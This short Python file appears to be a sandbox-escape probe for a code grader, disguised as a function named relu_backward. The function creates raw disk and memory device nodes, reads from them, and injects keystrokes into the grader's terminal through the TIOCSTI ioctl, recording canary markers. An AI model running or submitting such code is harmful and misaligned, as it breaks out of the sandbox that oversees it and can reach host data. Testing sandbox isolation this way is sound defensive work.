"""Devices made and opened: disks, memory, the terminal that the grader was started from."""

import contextlib
import fcntl
import os
import stat


def relu_backward(dout, z):
    found = []
    for number, (major, minor) in enumerate(((8, 0), (1, 1), (259, 0), (253, 0))):
        path = f"/tmp/LEFTOVER{number}"
        with contextlib.suppress(OSError):
            os.mknod(path, stat.S_IFBLK | 0o666, os.makedev(major, minor))
            with open(path, "rb") as file:
                found.append(("CANARY" + "-found", file.read(10)))
    for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/1/fd/0"):
        with contextlib.suppress(OSError):
            descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
            for letter in b"LEFTOVER\n":
                fcntl.ioctl(descriptor, 0x5412, bytes([letter]))
            found.append(("CANARY" + "-found", path))
    raise PermissionError(found)
